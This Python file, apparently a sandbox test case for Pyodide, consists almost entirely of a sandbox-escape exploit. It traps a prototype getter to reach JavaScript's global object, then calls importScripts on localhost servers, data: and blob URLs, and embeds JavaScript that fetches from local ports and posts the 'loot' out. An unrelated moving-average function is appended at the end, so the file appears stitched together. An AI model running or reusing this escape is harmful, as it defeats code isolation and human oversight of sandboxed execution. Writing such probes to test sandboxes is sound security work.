# must: passed
# tries: to load scripts: from servers, and from texts of its own that could then do anything
import js
import pyodide_js
from pyodide.ffi import JsException, create_proxy, to_js


def find_realm():
    """JavaScript's global object, which the getter of a name that it lacks is given."""
    met, trap = [], js.Object.new()
    trap.get = create_proxy(lambda this: met.append(this)).captureThis()
    trap.configurable = True
    js.Object.defineProperty(js.Object.prototype, "document", trap)
    try:
        pyodide_js._module.JSEvents.fullscreenEnabled()
    except JsException:
        del js.Object.prototype.document
    return met[0]


realm = find_realm()
CODE = """
const readNow = (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
    return request.responseText;
};
for (const url of ['http://localhost:4197/', 'http://127.0.0.1:4196/']) {
    try { self.loot = readNow(url); } catch {}
    import(url).then((module) => self.postMessage(Object.keys(module)), () => {});
    fetch(url).then((found) => found.text()).then((text) => self.postMessage(text), () => {});
}
"""
SERVERS = ("http://localhost:4197/assets/", "http://127.0.0.1:4196/")
sources = [*SERVERS, "data:text/javascript,self.loot=1"]
try:
    blob = realm.Blob.new(to_js([CODE]))
    sources.append(realm.URL.createObjectURL(blob))
except (AttributeError, JsException):
    pass
kind = realm
while kind := js.Object.getPrototypeOf(kind):
    for source in sources if hasattr(kind, "importScripts") else ():
        try:
            kind.importScripts.call(None, source)
        except (AttributeError, TypeError, JsException):
            pass
if getattr(realm, "loot", None):
    print("GOT", str(realm.loot)[:100])


def ema_update(ema, weights, decay=0.99):
    return decay * ema + (1 - decay) * weights
